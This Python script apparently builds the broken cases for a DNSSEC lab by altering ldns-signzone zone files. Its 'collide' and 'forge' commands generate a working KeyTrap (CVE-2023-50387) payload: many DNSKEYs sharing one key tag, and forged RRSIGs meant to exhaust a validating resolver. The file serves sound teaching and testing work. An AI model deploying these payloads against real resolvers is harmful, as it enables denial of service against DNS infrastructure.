#!/usr/bin/python3
# dnssec-craft.py: the surgery dnssec-lib.sh does on keys and zones signed by
# ldns-signzone, to make the broken cases of the DNSSEC lab.  Zone files are
# ldns-signzone's output: one RR per line, owner fully qualified, then TTL,
# class, type and the RDATA.  Nothing here signs anything: every valid
# signature in the lab comes from ldns-signzone.
#
#   ds ZONE DNSKEY-FILE [DIGEST]        the DS (SHA-256) of every KSK in the file
#   collide KEY-FILE N                  N DNSKEYs with the key's tag (KeyTrap)
#   forge ZONEFILE OWNER TYPE TAG M     M RRSIGs claiming TAG replace OWNER/TYPE's
#   flip ZONEFILE OWNER TYPE            one bit of OWNER/TYPE's RRSIG flipped
#   strip ZONEFILE ZONE                 the apex DNSKEY RRset and its RRSIGs removed
#   realg ZONEFILE ZONE ALG             every DNSKEY/RRSIG relabelled algorithm ALG
import base64
import os
import sys

import dns.dnssec
import dns.name
import dns.rdata
import dns.rdataclass
import dns.rdatatype


def records(path):
    """The zone file as [owner, ttl, class, type, rdata-text] lists."""
    out = []
    for line in open(path):
        line = line.split(";", 1)[0].strip() if not line.lstrip().startswith(";") else ""
        if not line:
            continue
        f = line.split(None, 4)
        if f[1] == "IN":  # a .key file: no TTL
            f = line.split(None, 3)
            f.insert(1, "3600")
        out.append(f)
    return out


def write(path, recs):
    with open(path + ".tmp", "w") as f:
        for r in recs:
            f.write("\t".join(r) + "\n")
    os.replace(path + ".tmp", path)


def rdata(rtype, text, origin="."):
    return dns.rdata.from_text(dns.rdataclass.IN, dns.rdatatype.from_text(rtype), text,
                               origin=dns.name.from_text(origin))


def keys_in(path):
    """(owner, DNSKEY rdata) of every DNSKEY in a .key file or a zone file."""
    return [(r[0], rdata("DNSKEY", r[4])) for r in records(path) if r[3] == "DNSKEY"]


def cmd_ds(zone, path, digest="SHA256"):
    for owner, key in keys_in(path):
        if key.flags & 1:  # SEP: the key the parent's DS points at (RFC 4034 §2.1.1)
            print("%s\t3600\tIN\tDS\t%s" % (zone, dns.dnssec.make_ds(zone, key, digest).to_text()))


def rsa_modulus_span(key):
    """Where the RSA modulus is in the key's public key field (RFC 3110 §2)."""
    k = key.key
    if k[0] == 0:
        elen = int.from_bytes(k[1:3], "big")
        return 3 + elen, len(k)
    return 1 + k[0], len(k)


def cmd_collide(path, n):
    """N variants of an RSA key with the same key tag.  The tag is a 16-bit
    ones-complement-style sum of the RDATA's 16-bit words (RFC 4034 App. B),
    so adding d to one byte of the modulus and taking d from another byte
    at the same parity leaves it unchanged.  Each variant is a different
    modulus, so a validator that tries every key with a signature's tag does
    one RSA operation per key (the KeyTrap amplification, CVE-2023-50387)."""
    owner, key = keys_in(path)[0]
    tag = dns.dnssec.key_id(key)
    lo, hi = rsa_modulus_span(key)
    base = bytearray(key.key)
    # Pairs of even offsets (within the public key field, whose start is the
    # RDATA's offset 4, so parity is the same) in the middle of the modulus.
    made = 0
    pos = lo + 16 + ((lo + 16) % 2)
    while made < n:
        a, b = pos, pos + 2
        if b >= hi - 16:
            sys.exit("collide: modulus too short for %d keys" % n)
        for d in range(1, 128):
            if made == n:
                break
            if base[a] + d <= 255 and base[b] - d >= 0:
                v = bytearray(base)
                v[a] += d
                v[b] -= d
                nk = dns.rdata.from_text(dns.rdataclass.IN, dns.rdatatype.DNSKEY,
                                         "%d %d %d %s" % (key.flags, key.protocol, key.algorithm,
                                                          base64.b64encode(bytes(v)).decode()))
                assert dns.dnssec.key_id(nk) == tag
                print("%s\t3600\tIN\tDNSKEY\t%s" % (owner, nk.to_text()))
                made += 1
        pos += 4
    return tag


def cmd_forge(path, owner, rtype, tag, m):
    """Replace OWNER/TYPE's RRSIGs with M of the same header claiming TAG and
    random signature bits: each one a failed verification per key tried."""
    recs = records(path)
    out, proto = [], None
    for r in recs:
        if r[0] == owner and r[3] == "RRSIG" and r[4].split()[0] == rtype:
            proto = r
            continue
        out.append(r)
    if proto is None:
        sys.exit("forge: no RRSIG for %s %s" % (owner, rtype))
    f = proto[4].split()
    siglen = len(base64.b64decode("".join(f[8:])))
    for _ in range(m):
        f2 = f[:6] + [str(tag), f[7], base64.b64encode(os.urandom(siglen)).decode()]
        out.append(proto[:4] + [" ".join(f2)])
    write(path, out)


def cmd_flip(path, owner, rtype):
    """Flip one bit in the middle of the signature: the RRSIG still parses
    and names the right key, and no longer verifies (RFC 4035 §5.3.3)."""
    recs, done = records(path), False
    for r in recs:
        if r[0] == owner and r[3] == "RRSIG" and r[4].split()[0] == rtype and not done:
            f = r[4].split()
            sig = bytearray(base64.b64decode("".join(f[8:])))
            sig[len(sig) // 2] ^= 0x01
            r[4] = " ".join(f[:8] + [base64.b64encode(bytes(sig)).decode()])
            done = True
    if not done:
        sys.exit("flip: no RRSIG for %s %s" % (owner, rtype))
    write(path, recs)


def cmd_strip(path, zone):
    recs = [r for r in records(path)
            if not (r[0] == zone and (r[3] == "DNSKEY" or (r[3] == "RRSIG" and r[4].split()[0] == "DNSKEY")))]
    write(path, recs)


def cmd_realg(path, zone, alg):
    """Relabel every key and signature as algorithm ALG (their key tags
    recomputed): a zone signed with an algorithm no validator implements,
    which RFC 4035 §5.2 and RFC 6840 §5.2 make insecure, not bogus."""
    recs, newtag = records(path), {}
    for r in recs:
        if r[3] == "DNSKEY":
            k = rdata("DNSKEY", r[4])
            nk = dns.rdata.from_text(dns.rdataclass.IN, dns.rdatatype.DNSKEY, "%d %d %d %s" % (
                k.flags, k.protocol, alg, base64.b64encode(k.key).decode()))
            newtag[dns.dnssec.key_id(k)] = dns.dnssec.key_id(nk)
            r[4] = nk.to_text()
    for r in recs:
        if r[3] == "RRSIG":
            f = r[4].split()
            f[1] = str(alg)
            f[6] = str(newtag.get(int(f[6]), int(f[6])))
            r[4] = " ".join(f)
    write(path, recs)


def main():
    a = sys.argv[1:]
    if not a:
        sys.exit(__doc__)
    c = a[0]
    if c == "ds":
        cmd_ds(a[1], a[2], *(a[3:4]))
    elif c == "keytag":
        for _, k in keys_in(a[1]):
            print(dns.dnssec.key_id(k))
    elif c == "collide":
        cmd_collide(a[1], int(a[2]))
    elif c == "forge":
        cmd_forge(a[1], a[2], a[3], int(a[4]), int(a[5]))
    elif c == "flip":
        cmd_flip(a[1], a[2], a[3])
    elif c == "strip":
        cmd_strip(a[1], a[2])
    elif c == "realg":
        cmd_realg(a[1], a[2], int(a[3]))
    else:
        sys.exit("unknown command %s" % c)


if __name__ == "__main__":
    main()
